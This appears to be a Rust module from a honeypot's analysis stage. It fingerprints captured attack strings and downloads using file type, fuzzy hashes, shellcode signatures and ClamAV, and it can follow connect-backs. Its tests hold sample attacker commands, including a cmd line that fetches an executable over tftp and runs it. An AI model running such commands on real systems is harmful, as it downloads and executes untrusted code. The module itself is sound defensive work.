//! The analysis stage: what was caught, after the downloads and before SaveFile and the
//! outputs. Replaces the C original's ANALYZE and POSTPROC plugins that are implemented
//! here: magicPE (htm_magicPE.c) and SpamSum (htm_SpamSum.c).
//!
//! * magicPE: the file type of the attack string and of every download ([`filetype`]); an
//!   attack string that is an executable (PE, ELF, Mach-O, MS-DOS) is attached to the record
//!   as a download of type `raw` (the C plugin did so for MS-DOS executables only, which
//!   modern libmagic no longer names).
//! * SpamSum: the fuzzy hash ([`spamsum`]) of the attack string and of every download, and
//!   for the attack string the C plugin's signature files: `md5sum_sigfile` (an MD5 seen
//!   before stops there; else it is appended) and `spamsum_sigfile` (the best match score
//!   against the signatures in it is logged and recorded; the new signature is appended
//!   unless it is there already — the C plugin's duplicate check never matched).
//!
//! * cpuEmu: where x86 shellcode starts in the attack string ([`getpc`]), logged and
//!   recorded; detection only, nothing is emulated or run.
//! * cspm: shellcode recognised by signatures in the nepenthes format ([`cspm`]): decoders
//!   undone, the shell type, host, port, key, command or URL recorded; connect-backs
//!   followed as downloads when `follow_connectback` says so ([`Analyzer::follow_ups`]).
//! * ClamAV: every download streamed to clamd ([`clamav`]); the verdict (`clean` or the
//!   signature name) is logged and recorded.
//!
//! The signature files are read once when the stage is set up (at most [`SIG_MAX`] lines
//! each) and appended to with one write per line, never through a symbolic link.
//!
//! The analyses of one attack share a budget: [`ANALYSIS_TIME`] of wall-clock time (an
//! analysis not started by then is skipped with a log line, clamd's waits and the spamsum
//! comparisons end with it) and the attack's share of the daemon's memory budget
//! (`max_buffered_bytes`), which every copy they make is charged to (the attack string
//! attached as a download, cspm's decoded copies). They run on the connection's own thread
//! after it has ended, so capture goes on meanwhile.

pub mod clamav;
pub mod cspm;
pub mod filetype;
pub mod getpc;
pub mod spamsum;

use super::output::append::AppendLog;
use super::request::{Request, Scheme};
use crate::attack::{Attack, Download, Findings, Payload};
use crate::config::{Config, Plugin};
use crate::{log_err, log_info, log_notice, log_warn};
use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// Signature lines kept in memory from each file at most; older ones beyond are not compared.
pub const SIG_MAX: usize = 1_000_000;
/// A spamsum comparison stops at this score, as the C plugin's did.
const GOOD_ENOUGH: u32 = 90;
/// Time the comparisons of one attack may take; the best score so far counts after it.
const COMPARE_TIME: Duration = Duration::from_secs(2);
/// Time the analyses of one attack may take together.
pub const ANALYSIS_TIME: Duration = Duration::from_secs(30);

/// The SpamSum signature files and what they hold.
struct Signatures {
    md5_path: PathBuf,
    spamsum_path: PathBuf,
    md5: HashSet<String>,
    spamsum: Vec<String>,
    spamsum_set: HashSet<String>,
}

/// The configured analyses.
#[derive(Default)]
pub struct Analyzer {
    magic: bool,
    spamsum: bool,
    signatures: Option<Mutex<Signatures>>,
    clamd: Option<clamav::Clamd>,
    cpuemu: bool,
    cspm: Option<cspm::Cspm>,
}

impl Analyzer {
    /// The analyses `cfg` enables, `None` when none is; an error names a `clamd_socket`
    /// that is not a socket's name.
    pub fn from_config(cfg: &Config, base_dir: &Path) -> Result<Option<Analyzer>, super::PipelineError> {
        let magic = cfg.plugins.iter().any(|p| p.plugin == Plugin::MagicPe);
        let spam = cfg.plugins.iter().find(|p| p.plugin == Plugin::SpamSum);
        let clam = cfg.plugins.iter().find(|p| p.plugin == Plugin::ClamAv);
        let cpu = cfg.plugins.iter().find(|p| p.plugin == Plugin::CpuEmu);
        let sc = cfg.plugins.iter().find(|p| p.plugin == Plugin::Cspm);
        if !magic && spam.is_none() && clam.is_none() && cpu.is_none() && sc.is_none() {
            return Ok(None);
        }
        let cspm = match sc {
            None => None,
            Some(p) => {
                let c = load_cspm(p, base_dir)?;
                let file = p.option("shellcode_sigfile").unwrap_or_default();
                log_info!("CSPM - {} shellcode signatures loaded from {}.", c.len(), file);
                if c.follow && !super::fetch_configured(cfg) {
                    log_warn!("CSPM - Warning - follow_connectback needs a download plugin (ftpDownload, tftpDownload or httpDownload), whose limits and address policy it uses; connect-backs are recorded, not followed.");
                }
                Some(c)
            }
        };
        if let Some(p) = cpu {
            log_notice!("cpuEmu - No x86 emulator in this version: shellcode is located (GetPC), not run.");
            if p.option("execute_shellcode") == Some("yes") {
                log_warn!("cpuEmu - Warning - execute_shellcode is not supported and is ignored.");
            }
        }
        let clamd = match clam {
            None => None,
            Some(p) => {
                let value = p.option("clamd_socket").unwrap_or(clamav::DEFAULT_SOCKET);
                let target = clamav::parse_target(value, base_dir).ok_or_else(|| {
                    super::PipelineError::ClamdSocket { span: p.span.clone(), value: value.to_string() }
                })?;
                Some(clamav::Clamd::new(target))
            }
        };
        let signatures = spam.and_then(|p| {
            let path = |k: &str| p.option(k).filter(|v| !v.is_empty()).map(|v| base_dir.join(v));
            let (Some(md5_path), Some(spamsum_path)) = (path("md5sum_sigfile"), path("spamsum_sigfile")) else {
                return None;
            };
            match (read_lines(&md5_path), read_lines(&spamsum_path)) {
                (Ok(md5), Ok(spamsum)) => {
                    let spamsum_set = spamsum.iter().cloned().collect();
                    Some(Mutex::new(Signatures {
                        md5_path,
                        spamsum_path,
                        md5: md5.into_iter().collect(),
                        spamsum,
                        spamsum_set,
                    }))
                }
                (Err((p, e)), _) | (_, Err((p, e))) => {
                    log_err!(
                        "SpamSum - Error - Unable to read signature file {}: {}.",
                        p.display(),
                        crate::sys::strerror(&e)
                    );
                    None
                }
            }
        });
        Ok(Some(Analyzer { magic, spamsum: spam.is_some(), signatures, clamd, cpuemu: cpu.is_some(), cspm }))
    }

    /// Analyses `attack`: its string and every download, within [`ANALYSIS_TIME`] and the
    /// attack's memory budget.
    pub fn run(&self, attack: &mut Attack) {
        if attack.payload.data.is_empty() && attack.downloads.is_empty() {
            return;
        }
        let deadline = Instant::now() + ANALYSIS_TIME;
        let skipped = |what: &str| {
            log_warn!("Analysis - Warning - Time for this attack's analyses is up, {} skipped.", what);
        };
        let mut found = self.examine(&attack.payload);
        if self.cpuemu {
            if let Some((offset, kind)) = getpc::find(&attack.payload.data) {
                log_notice!(
                    "cpuEmu - Possible shellcode at offset {} of the attack string (GetPC: {}).",
                    offset,
                    kind.name()
                );
                found.getpc_offset = Some(offset);
            }
        }
        if let Some(c) = &self.cspm {
            if Instant::now() >= deadline {
                skipped("cspm");
            } else if !attack.payload.data.is_empty() {
                let mut charge = attack.charge.sibling();
                found.shellcode = c.scan(&attack.payload.data, deadline, &mut charge);
                if let Some(s) = &found.shellcode {
                    log_notice!("CSPM - {}", describe(s));
                }
            }
        }
        if self.magic && found.filetype.is_some() && filetype::is_executable(&attack.payload.data) {
            let mut charge = attack.charge.sibling();
            if charge.try_grow(attack.payload.data.len()) {
                let mut d = Download::new("raw", attack.payload.data.clone());
                d.remote = Some(attack.remote);
                d.findings = self.examine(&d.payload);
                attack.downloads.push(d);
                attack.charge.absorb(charge);
                log_notice!("magicPE - Attack string attached as download to attack record.");
            } else {
                log_warn!(
                    "magicPE - Warning - Memory budget spent, executable attack string ({} bytes) not attached as a download.",
                    attack.payload.data.len()
                );
            }
        }
        if let Some(t) = &found.filetype {
            log_info!("magicPE - Attack string is {}.", t);
        }
        if let Some(h) = &found.ssdeep {
            log_info!("SpamSum - Attack string's fuzzy hash is {}.", h);
        }
        if let Some(sigs) = &self.signatures {
            if let Some(h) = &found.ssdeep {
                let mut s = sigs.lock().unwrap_or_else(|e| e.into_inner());
                found.md5_known = s.known_md5(&attack.payload.md5);
                if found.md5_known {
                    log_info!("SpamSum - Found an exact MD5 hash match.");
                } else {
                    let score = s.best_match(h, deadline);
                    log_info!("SpamSum - Spamsum match score is {}.", score);
                    found.ssdeep_score = Some(score);
                    s.add_spamsum(h);
                }
            }
        }
        found.indicators = std::mem::take(&mut attack.findings.indicators);
        attack.findings = found;
        self.examine_downloads(attack, 0, deadline);
    }

    /// Analyses the downloads of `attack` from index `from` on (those a later stage added).
    pub fn examine_downloads(&self, attack: &mut Attack, from: usize, deadline: Instant) {
        for d in attack.downloads.iter_mut().skip(from) {
            if Instant::now() >= deadline {
                log_warn!(
                    "Analysis - Warning - Time for this attack's analyses is up, download {} not analysed.",
                    d.payload.md5
                );
                continue;
            }
            if d.findings.filetype.is_none() && d.findings.ssdeep.is_none() {
                d.findings = self.examine(&d.payload);
            }
            if let Some(t) = &d.findings.filetype {
                log_info!("magicPE - Download {} is {}.", d.payload.md5, t);
            }
            if let Some(h) = &d.findings.ssdeep {
                log_info!("SpamSum - Download {}'s fuzzy hash is {}.", d.payload.md5, h);
            }
            if let Some(c) = &self.clamd {
                if !d.payload.data.is_empty() {
                    d.findings.clamav = c.verdict(&d.payload.md5, &d.payload.data, deadline).and_then(|v| match v {
                        clamav::Verdict::Clean => Some("clean".to_string()),
                        clamav::Verdict::Infected(name) => Some(name),
                        clamav::Verdict::Error(_) => None,
                    });
                }
            }
        }
    }

    /// What the analyses ask to fetch after they ran: the downloads the URL or command cspm
    /// found in shellcode names and, with `follow_connectback`, the connect-back (TCP to the
    /// host and port; the key sent first; for a shell, what arrives by the deadline is
    /// kept). Fetched by the download stage under its limits and address policy.
    pub fn follow_ups(&self, attack: &Attack) -> Vec<Request> {
        let Some(c) = &self.cspm else { return Vec::new() };
        let Some(s) = &attack.findings.shellcode else { return Vec::new() };
        // A URL, or a command (of `execute` or `download`): the downloads it names.
        let named = s.url.as_ref().or(s.command.as_ref());
        if let Some(text) = named {
            return super::fetch::requests_of(text.as_bytes(), &[]).requests;
        }
        match (c.follow, s.host, s.port) {
            (true, Some(host), Some(port)) => {
                let mut r = Request::new(Scheme::Tcp, &host.to_string(), Some(port), "");
                if s.kind == "connectbackshell" {
                    r.path = super::download::tcp::SHELL.to_string();
                }
                r.filename = format!("{}-{}-{}", s.kind, host, port);
                r.data = s.key.as_deref().map(unhex).unwrap_or_default();
                vec![r]
            }
            _ => Vec::new(),
        }
    }

    /// The file type and fuzzy hash of `p` (each when its plugin is on).
    fn examine(&self, p: &Payload) -> Findings {
        if p.data.is_empty() {
            return Findings::default();
        }
        Findings {
            filetype: self.magic.then(|| filetype::describe(&p.data)).flatten(),
            ssdeep: self.spamsum.then(|| spamsum::hash(&p.data)),
            ..Findings::default()
        }
    }
}

impl Signatures {
    /// Whether `md5` is in `md5sum_sigfile`; if not, it is added (file and memory).
    fn known_md5(&mut self, md5: &str) -> bool {
        if self.md5.contains(md5) {
            return true;
        }
        if self.md5.len() < SIG_MAX {
            self.md5.insert(md5.to_string());
        }
        append(&self.md5_path, md5);
        false
    }

    /// The best score of `h` against the signatures, stopping at [`GOOD_ENOUGH`] or after
    /// [`COMPARE_TIME`].
    fn best_match(&self, h: &str, deadline: Instant) -> u32 {
        let end = (Instant::now() + COMPARE_TIME).min(deadline);
        let mut best = 0;
        for (i, s) in self.spamsum.iter().enumerate() {
            best = best.max(spamsum::compare(h, s).unwrap_or(0));
            if best >= GOOD_ENOUGH || (i % 1024 == 1023 && Instant::now() >= end) {
                break;
            }
        }
        best
    }

    /// Appends `h` to `spamsum_sigfile` unless it is there already.
    fn add_spamsum(&mut self, h: &str) {
        if self.spamsum_set.contains(h) {
            return;
        }
        if self.spamsum.len() < SIG_MAX {
            self.spamsum.push(h.to_string());
            self.spamsum_set.insert(h.to_string());
        }
        append(&self.spamsum_path, h);
    }
}

/// plugin-cspm's signature file, loaded and compiled, and its `follow_connectback`; an
/// error names what is wrong and where.
pub fn load_cspm(p: &crate::config::PluginConfig, base_dir: &Path) -> Result<cspm::Cspm, super::PipelineError> {
    let file = p
        .option("shellcode_sigfile")
        .filter(|v| !v.is_empty())
        .ok_or_else(|| super::PipelineError::Cspm(format!("{}: cspm - shellcode_sigfile is required", p.span)))?;
    let follow = match p.option("follow_connectback").unwrap_or("no") {
        "yes" => true,
        "no" => false,
        other => {
            return Err(super::PipelineError::Cspm(format!(
                "{}: cspm - follow_connectback must be yes or no, not '{}'",
                p.span, other
            )))
        }
    };
    cspm::Cspm::load(&base_dir.join(file), follow).map_err(|e| super::PipelineError::Cspm(e.to_string()))
}

/// How the download of a connect-back shell's session is named: `connectbackshell-HOST-PORT`.
const SHELL_SESSION: &str = "connectbackshell-";

/// Whether `d` is what a connect-back shell's far side typed (its commands are read for
/// downloads).
pub fn is_shell_session(d: &Download) -> bool {
    d.dl_type == "tcp" && d.filename.as_deref().is_some_and(|f| f.starts_with(SHELL_SESSION))
}

/// The bytes of lowercase hex text (as [`crate::text::hex`] writes it).
fn unhex(h: &str) -> Vec<u8> {
    let digit = |c: u8| (c as char).to_digit(16).unwrap_or(0) as u8;
    h.as_bytes().chunks_exact(2).map(|p| digit(p[0]) << 4 | digit(p[1])).collect()
}

/// One line on what cspm found.
fn describe(s: &crate::attack::Shellcode) -> String {
    let mut t = format!("Shellcode recognised by {}", s.signature);
    if let Some(h) = s.host {
        t.push_str(&format!(", connects back to {}", std::net::SocketAddr::new(h, s.port.unwrap_or(0))));
    } else if let Some(p) = s.port {
        t.push_str(&format!(", port {}", p));
    }
    if let Some(k) = &s.key {
        t.push_str(&format!(", key 0x{}", k));
    }
    if let Some(u) = &s.url {
        t.push_str(&format!(", URL {}", u));
    }
    if let Some(c) = &s.command {
        t.push_str(&format!(", command {}", c));
    }
    if !s.decoders.is_empty() {
        t.push_str(&format!(", after {}", s.decoders.join(", ")));
    }
    t.push('.');
    t
}

/// The lines of a signature file (at most [`SIG_MAX`], empty ones skipped).
fn read_lines(p: &Path) -> Result<Vec<String>, (PathBuf, std::io::Error)> {
    let text = std::fs::read_to_string(p).map_err(|e| (p.to_path_buf(), e))?;
    Ok(text.lines().map(str::trim).filter(|l| !l.is_empty()).take(SIG_MAX).map(str::to_string).collect())
}

/// Appends one line to a signature file (one write, never through a symbolic link).
fn append(p: &Path, line: &str) {
    match AppendLog::open("SpamSum", p) {
        Ok(f) => {
            let _ = f.write_line(format!("{line}\n").as_bytes());
        }
        Err(e) => {
            log_err!("SpamSum - Error - Unable to open signature file {}: {}.", p.display(), crate::sys::strerror(&e))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::Shellcode;
    use crate::config::{Mode, Proto};

    fn analyzer(follow: bool) -> Analyzer {
        let sigs = cspm::sigfile::parse(b"url::u { pattern \"x\"; };").unwrap();
        Analyzer { cspm: Some(cspm::Cspm::compile(sigs, follow).unwrap()), ..Analyzer::default() }
    }

    fn attack(found: Shellcode) -> Attack {
        let a = "192.0.2.1:80".parse().unwrap();
        let mut at = Attack::new(
            Proto::Tcp,
            a,
            "198.51.100.2:5555".parse().unwrap(),
            Mode::Normal,
            std::time::SystemTime::now(),
        );
        at.findings.shellcode = Some(found);
        at
    }

    #[test]
    fn connect_backs_are_followed_only_when_asked_urls_always() {
        let back = Shellcode {
            signature: "connectbackshell::c".into(),
            kind: "connectbackshell".into(),
            host: "203.0.113.5".parse().ok(),
            port: Some(4444),
            key: Some("deadbeef".into()),
            ..Shellcode::default()
        };
        assert!(analyzer(false).follow_ups(&attack(back.clone())).is_empty());
        let r = analyzer(true).follow_ups(&attack(back.clone()));
        assert_eq!(r.len(), 1);
        assert_eq!((r[0].scheme, r[0].host.as_str(), r[0].port), (Scheme::Tcp, "203.0.113.5", Some(4444)));
        assert_eq!((r[0].path.as_str(), r[0].data.as_slice()), ("shell", &b"\xde\xad\xbe\xef"[..]));
        assert_eq!(r[0].filename, "connectbackshell-203.0.113.5-4444");
        let file = Shellcode { kind: "connectbackfiletransfer".into(), key: None, ..back };
        let r = analyzer(true).follow_ups(&attack(file));
        assert_eq!((r[0].path.as_str(), r[0].data.len()), ("", 0));
        let url =
            Shellcode { kind: "url".into(), url: Some("http://198.51.100.7/a.exe".into()), ..Shellcode::default() };
        let r = analyzer(false).follow_ups(&attack(url));
        assert_eq!(
            (r.len(), r[0].scheme, r[0].host.as_str(), r[0].path.as_str()),
            (1, Scheme::Http, "198.51.100.7", "/a.exe")
        );
        let cmd = Shellcode {
            kind: "download".into(),
            command: Some("tftp -i 198.51.100.7 GET b.exe".into()),
            ..Shellcode::default()
        };
        let r = analyzer(false).follow_ups(&attack(cmd));
        assert_eq!((r.len(), r[0].scheme, r[0].path.as_str()), (1, Scheme::Tftp, "b.exe"));
        // So is an execute signature's command (decoded shellcode may hide it from the
        // extraction of the attack string).
        let exec = Shellcode {
            kind: "execute".into(),
            command: Some("cmd /c echo x & tftp -i 198.51.100.7 GET c.exe & c.exe".into()),
            ..Shellcode::default()
        };
        let r = analyzer(false).follow_ups(&attack(exec));
        assert_eq!((r.len(), r[0].scheme, r[0].path.as_str()), (1, Scheme::Tftp, "c.exe"));
        // A bind shell is recorded, nothing is fetched.
        let bind = Shellcode { kind: "bindshell".into(), port: Some(4444), ..Shellcode::default() };
        assert!(analyzer(true).follow_ups(&attack(bind)).is_empty());
    }

    #[test]
    fn copies_are_charged_to_the_attacks_memory_budget() {
        let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
        elf.resize(64, 0);
        elf[16] = 2; // ET_EXEC
        elf[18] = 62; // x86-64
        elf[20] = 1;
        elf.resize(4096, 0x90);
        let a = Analyzer { magic: true, ..Analyzer::default() };
        for (cap, attached) in [(1 << 20, true), (1000, false)] {
            let budget = crate::budget::Budget::new(cap);
            let mut at = attack(Shellcode::default());
            at.findings.shellcode = None;
            at.payload = Payload::new(elf.clone());
            at.charge = budget.charge();
            a.run(&mut at);
            assert!(at.findings.filetype.as_deref().is_some_and(|t| t.starts_with("ELF")), "{:?}", at.findings);
            assert_eq!(at.downloads.len(), usize::from(attached), "budget {cap}");
            assert_eq!(budget.used(), if attached { elf.len() } else { 0 });
        }
    }
}
